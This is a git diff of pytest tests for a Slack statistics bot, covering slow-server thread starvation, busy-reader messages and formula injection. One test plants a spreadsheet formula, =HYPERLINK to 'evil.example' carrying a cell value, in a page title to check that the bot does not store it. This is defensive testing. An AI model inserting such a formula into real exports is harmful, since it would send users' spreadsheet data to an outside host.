@@ -10,10 +10,12 @@ from typing import Any
 import pytest
 from sqlalchemy import Engine, func, select
 
+from bot.local_slack import SlackStandIn
 from bot.web import create_wsgi
 from storage import roles
 from storage.db import make_sessions
-from storage.models import Quote, Statistic, Status
+from storage.models import Quote, Source, Statistic, Status
+from tests import ingest_site
 from tests.conftest import SIGNING_SECRET, slack_settings
 from tests.http_server import serving, static_site
 from tests.slackapi.signing import (
@@ -23,7 +25,6 @@ from tests.slackapi.signing import (
     signed_headers,
     slash_command_body,
 )
-from tests.slackapi.standin import SlackStandIn
 
 GOLD = Path(__file__).parent / "gold" / "articles"
 REVIEW = "C0REVIEW"
@@ -169,3 +170,59 @@ def test_extract_figures_on_a_message_reads_its_text_and_an_editor_approves_a_ca
     post(f"{server}/slack/events", body, signed_headers(body, SIGNING_SECRET))
     standin.wait_for("chat.update")
     assert count(engine, Statistic, Status.PUBLISHED) == 3
+
+
+def slow_server(engine: Engine, standin: SlackStandIn, **overrides: Any) -> Any:
+    settings = slack_settings(engine, standin, review_channel=REVIEW, fetch_allow_loopback=True, **overrides)
+    return serving(create_wsgi(settings))
+
+
+def test_links_to_dripping_servers_do_not_hold_up_other_replies(
+    engine: Engine, standin: SlackStandIn, home_id: int
+) -> None:
+    # Bolt runs lazy replies on five threads; five slow sites must not take them all. The deadline is long
+    # here (two minutes) so that only a separate pool for reading can keep the export below moving.
+    with ingest_site.serving() as dripping, slow_server(engine, standin, fetch_deadline=120.0) as server:
+        for _ in range(5):
+            assert "Reading" in ingest(server, standin, f"ingest {dripping.url}/drip-headers")["text"]
+        body = slash_command_body(
+            "/stats", "export facebook", user_id="U0ASKER", response_url=standin.response_url("x")
+        )
+        status, _, _ = post(f"{server}/slack/events", body, signed_headers(body, SIGNING_SECRET))
+        assert status == 200
+        standin.wait_for("files.completeUploadExternal", timeout=30)
+
+
+def test_when_every_reader_is_busy_the_person_is_told_to_try_again(
+    engine: Engine, standin: SlackStandIn, home_id: int
+) -> None:
+    with (
+        ingest_site.serving() as dripping,
+        slow_server(engine, standin, fetch_deadline=120.0, ingest_workers=1, ingest_queue=0) as server,
+    ):
+        assert "Reading" in ingest(server, standin, f"ingest {dripping.url}/drip-headers")["text"]
+        assert (
+            "try again in a few minutes"
+            in ingest(server, standin, f"ingest {dripping.url}/drip-headers")["text"]
+        )
+
+
+def test_a_page_titled_like_a_formula_is_stored_without_that_title(
+    server: str, standin: SlackStandIn, engine: Engine
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Source")'
+    body = (GOLD / "child-poverty-two-child-limit.txt").read_text(encoding="utf-8")
+    page = (
+        f"<html><head><title>{formula}</title><meta property='og:title' content='{formula}'></head>"
+        f"<body><article><h1>{formula}</h1>"
+        + "".join(f"<p>{line}</p>" for line in body.splitlines()[1:] if line.strip())
+        + "</article></body></html>"
+    )
+    with serving(static_site({"/formula": ("text/html; charset=utf-8", page.encode())})) as site:
+        ingest(server, standin, f"ingest {site}/formula")
+        assert "for review" in last_response(standin)
+    with make_sessions(engine)() as session:
+        titles = set(session.scalars(select(Source.title)))
+        texts = set(session.scalars(select(Statistic.measure))) | set(session.scalars(select(Quote.text)))
+    assert count(engine, Statistic, Status.PENDING) > 0
+    assert not any(text.startswith("=") for text in titles | texts)
